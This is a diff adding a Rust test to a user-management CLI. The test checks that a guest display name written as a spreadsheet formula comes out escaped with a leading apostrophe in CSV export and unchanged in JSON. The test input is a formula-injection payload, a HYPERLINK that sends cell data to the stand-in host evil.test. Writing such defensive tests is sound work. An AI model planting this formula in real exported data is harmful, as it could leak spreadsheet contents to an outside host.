@@ -742,6 +742,60 @@ async fn users_list_prints_each_upn_with_its_method_types_as_a_table_json_or_csv
 }
 
 #[test]
+fn a_name_a_spreadsheet_would_run_as_a_formula_is_listed_as_text_in_csv() {
+    let (_dir, db) = demo_database();
+    let formula = r#"=HYPERLINK("https://evil.test/?"&A1,"Open")"#;
+    let invited = gatehouse(
+        &db,
+        &[
+            "invite",
+            "--tenant",
+            "woodgrove",
+            "eve@fabrikam.test",
+            "--name",
+            formula,
+            "--no-email",
+        ],
+    );
+    assert!(invited.status.success(), "{}", stderr(&invited));
+
+    let output = gatehouse(
+        &db,
+        &[
+            "users",
+            "list",
+            "--tenant",
+            "woodgrove",
+            "--guests",
+            "--format",
+            "csv",
+        ],
+    );
+    assert!(output.status.success(), "{}", stderr(&output));
+    let csv = stdout(&output);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let row = reader.records().next().expect("the guest").unwrap();
+    assert_eq!(&row[1], "eve_fabrikam.test#EXT#@woodgrove.test");
+    assert_eq!(&row[2], format!("'{formula}"), "{csv}");
+
+    let json = gatehouse(
+        &db,
+        &[
+            "users",
+            "list",
+            "--tenant",
+            "woodgrove",
+            "--guests",
+            "--format",
+            "json",
+        ],
+    );
+    let page: server::graph::Page<server::graph::User> =
+        serde_json::from_str(&stdout(&json)).unwrap();
+    assert_eq!(page.value[0].display_name, formula, "JSON keeps the name");
+}
+
+#[test]
 fn users_list_refuses_an_unknown_tenant_and_contradictory_filters() {
     let (_dir, db) = demo_database();
     let unknown = gatehouse(&db, &["users", "list", "--tenant", "fabrikam"]);
